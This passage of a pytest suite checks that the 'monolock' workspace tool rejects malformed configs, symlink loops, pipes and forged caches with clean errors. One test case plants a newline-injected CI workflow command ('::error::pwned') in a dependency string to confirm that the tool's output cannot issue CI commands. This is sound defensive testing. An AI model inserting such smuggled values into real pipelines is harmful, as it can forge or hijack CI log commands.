    ),
    *[
        Case(
            f"smoke-timeout-{label}",
            {},
            ("build", "api", "--venv", "env", "--smoke-timeout", value),
            ("--smoke-timeout", "number of seconds"),
        )
        for label, value in (("nan", "nan"), ("inf", "inf"), ("negative", "-1"), ("zero", "0"))
    ],
    Case(
        "venv-path-with-the-path-separator",
        {},
        ("build", "api", "--venv", "x:y"),
        ("x:y", "which PATH cannot hold"),
    ),
    Case("jobs-zero", {}, ("check", "-j", "0"), ("--jobs",)),
    Case("jobs-huge", {}, ("run", "test", "-j", "99999"), ("--jobs",)),
    Case(
        "app-file-inside-git",
        {"pyproject.toml": app_table('files = [".git/config"]')},
        ("list",),
        ("pyproject.toml", "tool.monolock.apps.api.files", "'.git/config'"),
    ),
    Case(
        "app-file-is-the-root",
        {"pyproject.toml": app_table('files = ["."]')},
        ("list",),
        ("pyproject.toml", "tool.monolock.apps.api.files", "'.'"),
    ),
    Case(
        "requirement-with-a-workflow-command",
        {CORE: sub('"alpha>=1"', '"alpha>=1\\n::error::pwned"')},
        ("list",),
        (CORE, "project.dependencies[0]", "\\n::error::pwned"),
    ),
    # --- Poetry packages, continued ------------------------------------------------------------
    Case(
        "poetry-path-dependency-to-nothing",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry(
                '[tool.poetry.dependencies]\nq = { path = "../nope" }\n'
            ),
        },
        ("list",),
        ("packages/p/pyproject.toml", "dependency 'q' has path '../nope', which does not exist"),
    ),
    Case(
        "poetry-path-dependency-unreadable",
        {
            "pyproject.toml": "",
            CORE: "[tool.poetry\n",
            "packages/p/pyproject.toml": poetry(
                '[tool.poetry.dependencies]\ncore = { path = "../core" }\n'
            ),
        },
        ("list",),
        (
            "packages/p/pyproject.toml",
            "dependency 'core' has path '../core', which cannot be read",
            f"{CORE}:1",
        ),
    ),
    Case(
        "poetry-source-without-url",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry('[[tool.poetry.source]]\nname = "corp"\n'),
        },
        ("list",),
        ("packages/p/pyproject.toml", "tool.poetry.source[0] (corp): no url"),
    ),
    Case(
        "poetry-marker-is-not-pep508",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry(
                "[tool.poetry.dependencies]\n"
                'alpha = { version = "^1", markers = "os_name =! \'x\'" }\n'
            ),
        },
        ("list",),
        ("packages/p/pyproject.toml", "tool.poetry.dependencies.alpha.markers: expected a PEP 508"),
    ),
    Case(
        "poetry-lock-is-a-directory",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry('[tool.poetry.dependencies]\npython = "^3.11"\n'),
            "packages/p/poetry.lock": Dir(),
        },
        ("lock", "--check"),
        ("packages/p/poetry.lock", "is not a readable file"),
    ),
    Case(
        "no-project-at-all",
        {"pyproject.toml": "", CORE: None, API: None},
        ("list",),
        ("no project here",),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_bad_input_is_a_clear_error_and_changes_nothing(
    case: Case, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    root = make(tmp_path, case.changes, case.git, case.after)
    before = snapshot(root)
    cwd = Path.cwd()
    os.chdir(root)  # relative path options are read from here, as a user types them
    try:
        result = cli("-C", root, *case.argv)
    finally:
        os.chdir(cwd)
    assert result.code == 2, result.out + result.err
    assert "internal error" not in result.err and "Traceback" not in result.err
    for fragment in case.says:
        assert fragment in result.err, f"{fragment!r} not in:\n{result.err}"
    assert result.err.startswith(("error:", "warning:", "Usage:")), result.err
    assert not any(line.startswith("::") for line in result.err.splitlines())  # no CI command
    assert snapshot(root) == before  # nothing written, nothing lost, nothing left behind


def test_the_base_workspace_is_good(tmp_path: Path, cli: Callable[..., Run]) -> None:
    """The cases above fail because of what each breaks, not because the base is broken."""
    root = make(tmp_path, {})
    for argv in (
        ("list",),
        ("graph",),
        ("export", "api"),
        ("why", "alpha"),
        ("export", "api", "--extra", "fast", "--group", "dev"),
    ):
        result = cli("-C", root, *argv)
        assert result.code == 0, (argv, result.err)
        assert "warning" not in result.err


def test_pipes_and_symlink_loops_among_the_sources_are_passed_over(tmp_path: Path) -> None:
    root = make(
        tmp_path,
        {
            "packages/core/src/core/stream.py": Fifo(),
            "packages/core/src/core/loop.py": Link("loop.py"),
            "packages/core/src/core/circle": Link("circle"),
            "packages/core/src/dead.py": Link("nowhere.py"),
        },
    )
    done = subprocess.run(
        [sys.executable, "-m", "monolock", "-C", str(root), "check", "--no-lock-check"],
        capture_output=True,
        text=True,
        timeout=120,  # reading the pipe would never end
        stdin=subprocess.DEVNULL,
    )
    assert done.returncode == 0, done.stderr
    assert "2 member(s), 2 files scanned" in done.stdout


def test_a_symlink_loop_that_is_excluded_is_no_member(
    tmp_path: Path, cli: Callable[..., Run]
) -> None:
    root = make(
        tmp_path,
        {
            "packages/loop": Link("loop"),
            "pyproject.toml": sub(
                'members = ["packages/*"]', 'members = ["packages/*"]\nexclude = ["packages/loop"]'
            ),
        },
    )
    result = cli("-C", root, "list", "--format", "names")
    assert result.code == 0, result.err
    assert result.out.split() == ["api", "core"]


def test_a_member_path_that_looks_like_markup_is_shown_as_it_is(
    tmp_path: Path, cli: Callable[..., Run]
) -> None:
    root = make(tmp_path, {"packages/[bold]x/pyproject.toml": '[project]\nname = "x"\n'})
    result = cli("-C", root, "list")
    assert result.code == 0, result.err
    assert "packages/[bold]x" in result.out


def test_a_relative_cache_home_is_ignored(monkeypatch: pytest.MonkeyPatch) -> None:
    from monolock.fsutil import cache_root

    monkeypatch.delenv("MONOLOCK_CACHE_DIR", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", "relative/cache")
    assert cache_root().is_absolute()
    monkeypatch.delenv("HOME", raising=False)
    assert cache_root().is_absolute()


def test_a_lock_check_that_cannot_be_made_is_a_finding_not_a_pass(
    tmp_path: Path, cli: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = make(tmp_path, {})
    uv = tmp_path / "uv"  # a uv that cannot reach its index
    uv.write_text(
        '#!/bin/sh\n[ "$1" = --version ] && { echo "uv 0.13.9"; exit 0; }\n'
        'echo "error: Failed to fetch: network unreachable" >&2; exit 2\n'
    )
    uv.chmod(0o755)
    monkeypatch.setenv("MONOLOCK_UV", str(uv))
    result = cli("-C", root, "check", "--no-cache", "--format", "json")
    assert result.code == 1, result.err
    assert "could not check whether uv.lock is up to date" in result.out
    assert "network unreachable" in result.out


def test_a_program_that_is_not_uv_is_refused_as_uv(
    tmp_path: Path, cli: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = make(tmp_path, {})
    for fake in ("/bin/false", "/bin/true", str(tmp_path)):
        monkeypatch.setenv("MONOLOCK_UV", fake)
        result = cli("-C", root, "lock", "--check")
        assert result.code == 2 and "does not name a uv executable" in result.err


def test_a_source_file_too_large_to_parse_is_a_finding_not_gigabytes(
    tmp_path: Path, cli: Callable[..., Run]
) -> None:
    import json

    from monolock.imports.cache import MAX_BYTES

    data = "TABLE = [\n" + "    1,\n" * (MAX_BYTES // 6) + "]\n"
    root = make(tmp_path, {"packages/core/src/core/generated.py": data})
    result = cli("-C", root, "check", "--no-lock-check", "--format", "json")
    found = {f["code"]: f["message"] for f in json.loads(result.out)["findings"]}
    assert "ML100" in found and "too large to scan" in found["ML100"], result.out


def test_a_deep_chain_of_members_is_drawn(tmp_path: Path, cli: Callable[..., Run]) -> None:
    members = {"pyproject.toml": '[tool.uv.workspace]\nmembers = ["m/*"]\n'}
    for i in range(1500):  # deeper than Python's recursion limit
        dep = f', dependencies = ["c{i + 1:04d}"]' if i < 1499 else ""
        members[f"m/c{i:04d}/pyproject.toml"] = f'project = {{ name = "c{i:04d}"{dep} }}\n'
    root = make(tmp_path, {**members, CORE: None, API: None})
    result = cli("-C", root, "graph")
    assert result.code == 0, result.err
    assert len(result.out.splitlines()) == 1500


def test_a_damaged_manifest_cache_is_never_trusted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cli: Callable[..., Run]
) -> None:
    """Manifests are remembered by the digest of their bytes; an entry that is garbage, or
    well-formed but wrong, is read anew from the manifest itself."""
    import marshal

    cache = tmp_path / "cache"
    monkeypatch.setenv("MONOLOCK_CACHE_DIR", str(cache))
    root = tmp_path / "repo"
    shutil.copytree(BASE, root)
    first = cli("-C", root, "list", "--format", "json")
    assert first.code == 0, first.err
    entries = sorted((cache / "manifests").rglob("*.marshal"))
    assert entries, "manifests are remembered"
    for i, entry in enumerate(entries):
        entry.write_bytes(b"\x00garbage" if i % 2 else marshal.dumps({"project": {"name": 7}}))
    again = cli("-C", root, "list", "--format", "json")
    assert again.code == 0, again.err
    assert json.loads(again.out) == json.loads(first.out)


def test_a_damaged_lock_cache_is_never_trusted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cli: Callable[..., Run]
) -> None:
    """uv.lock's parsed form is remembered by its digest, with a checksum: an entry cut
    short, damaged or swapped is read anew from uv.lock itself."""
    import marshal

    cache = tmp_path / "cache"
    monkeypatch.setenv("MONOLOCK_CACHE_DIR", str(cache))
    root = tmp_path / "repo"
    shutil.copytree(BASE, root)
    app = "api"
    first = cli("-C", root, "export", app)
    assert first.code == 0, first.err
    (entry,) = sorted((cache / "locks").glob("*.marshal"))
    good = entry.read_bytes()
    # the checksum kept, the payload swapped for an empty lock
    forged = good[:16] + marshal.dumps({"version": 1, "package": []})
    for damage in (good[:50], b"\x00garbage", forged):
        entry.write_bytes(damage)
        again = subprocess.run(
            [sys.executable, "-m", "monolock", "-C", str(root), "export", app],
            capture_output=True,
            text=True,
            env={**os.environ, "MONOLOCK_CACHE_DIR": str(cache)},
        )
        assert again.returncode == 0, again.stderr
        assert again.stdout == first.out
